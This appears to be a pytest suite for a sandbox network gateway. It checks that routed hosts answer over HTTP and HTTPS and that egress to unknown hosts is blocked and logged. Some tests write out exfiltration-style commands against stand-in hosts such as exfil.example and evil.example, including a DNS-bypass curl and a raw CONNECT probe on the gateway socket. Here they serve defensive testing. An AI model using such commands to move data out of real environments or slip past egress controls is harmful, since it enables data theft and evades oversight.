"""The gateway: routed hosts work over http and https with stock clients; everything else fails fast and is logged."""
from __future__ import annotations

import hashlib
import json

import pytest

from airgap.sandbox import JsonlSink

pytestmark = pytest.mark.docker

CLIENTS = {
    "curl-http": "curl -sS http://docs.python.org/3/x?q=1",
    "curl-https": "curl -sS https://docs.python.org/3/x?q=1",
    "wget-https": "wget -qO- https://docs.python.org/3/x?q=1",
    "urllib-https": "python3 -c \"import urllib.request as u; "
                    "print(u.urlopen('https://docs.python.org/3/x?q=1').read().decode(), end='')\"",
    "requests-https": "python3 -c \"import requests; print(requests.get('https://docs.python.org/3/x?q=1').text, end='')\"",
}


@pytest.mark.parametrize("client", sorted(CLIENTS))
def test_stock_clients_reach_routed_host(events_sandbox, client):
    r = events_sandbox.exec(CLIENTS[client], timeout=30)
    scheme = "http" if client.endswith("-http") else "https"
    assert r.exit_code == 0, r.stderr
    assert r.stdout == f"GET {scheme}://docs.python.org/3/x body="
    http = [e for e in events_sandbox.events if e["type"] == "http"]
    assert len(http) == 1
    event = http[0]
    assert event["url"] == f"{scheme}://docs.python.org/3/x?q=1" and event["status"] == 200
    assert event["source"] == "sandbox" and event["method"] == "GET"
    assert event["response_sha256"] == hashlib.sha256(r.stdout.encode()).hexdigest()
    assert event["response_bytes"] == len(r.stdout)
    assert any(e["type"] == "dns" and e["name"] == "docs.python.org" and e["known"] for e in events_sandbox.events)


def test_post_body_is_hashed(events_sandbox):
    r = events_sandbox.exec("curl -sS -d 'to=bob' https://mail.airgap/api/send")
    assert r.stdout == "POST https://mail.airgap/api/send body=to=bob"
    event = next(e for e in events_sandbox.events if e["type"] == "http")
    assert event["request_bytes"] == 6 and event["request_sha256"] == hashlib.sha256(b"to=bob").hexdigest()


def test_unknown_host_fails_fast_and_is_logged(events_sandbox):
    r = events_sandbox.exec("curl -sS https://exfil.example/steal", timeout=30)
    assert r.exit_code == 6 and "Could not resolve host" in r.stderr  # NXDOMAIN at once, no retries
    attempts = [e for e in events_sandbox.events if e["type"] == "egress_attempt"]
    assert attempts and all(a["host"] == "exfil.example" and a["via"] == "dns" for a in attempts)


def test_unknown_host_via_relay_gets_clear_502(events_sandbox):
    # Skipping DNS (curl --resolve) still lands on the gateway, which refuses with a message.
    r = events_sandbox.exec("curl -sS --resolve evil.example:443:127.0.0.1 https://evil.example/x; echo; "
                            "curl -sS -o /dev/null -w '%{http_code}' -H 'Host: evil.example' http://127.0.0.1/")
    assert "host not in the offline world: evil.example" in r.stdout
    assert r.stdout.endswith("502")
    attempts = [e for e in events_sandbox.events if e["type"] == "egress_attempt"]
    assert {(a["via"], a["host"]) for a in attempts} == {("https", "evil.example"), ("http", "evil.example")}


def test_speaking_to_the_gateway_socket_directly_is_logged(events_sandbox):
    probe = ("import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect('/run/airgap/gw.sock')\n"
             "s.sendall(b'CONNECT exfil.example:22\\n')\nprint(s.recv(100))")
    r = events_sandbox.exec(["python3", "-c", probe])
    assert r.stdout.strip() == "b''"
    attempt = next(e for e in events_sandbox.events if e["type"] == "egress_attempt")
    assert attempt["via"] == "socket" and attempt["preamble"].startswith("CONNECT")


def test_routes_change_per_episode(events_sandbox):
    events_sandbox.set_routes({"shop.airgap": events_sandbox._channel.routes["mail.airgap"]})
    r = events_sandbox.exec("curl -sS https://shop.airgap/cart; echo; curl -sS https://mail.airgap/ 2>&1")
    assert r.stdout.splitlines()[0] == "GET https://shop.airgap/cart body="
    assert "Could not resolve host: mail.airgap" in r.stdout


def test_fetch_from_harness_uses_same_path(events_sandbox):
    resp = events_sandbox.fetch("POST", "https://docs.python.org/3/search", body=b"q=json")
    assert resp.status == 200 and resp.body == b"POST https://docs.python.org/3/search body=q=json"
    event = next(e for e in events_sandbox.events if e["type"] == "http")
    assert event["source"] == "harness" and event["request_sha256"] == hashlib.sha256(b"q=json").hexdigest()
    missing = events_sandbox.fetch("GET", "https://nowhere.example/")
    assert missing.status == 502 and b"host not in the offline world" in missing.body


def test_jsonl_sink_records_everything(events_sandbox, tmp_path):
    sink = JsonlSink(tmp_path / "ep.jsonl")
    events_sandbox.set_sink(sink)
    events_sandbox.exec("curl -s https://docs.python.org/ >/dev/null")
    events_sandbox.write_file("/workspace/n.txt", b"x")
    sink.close()
    types = [json.loads(line)["type"] for line in (tmp_path / "ep.jsonl").read_text().splitlines()]
    assert {"dns", "http", "exec", "file_write"} <= set(types)
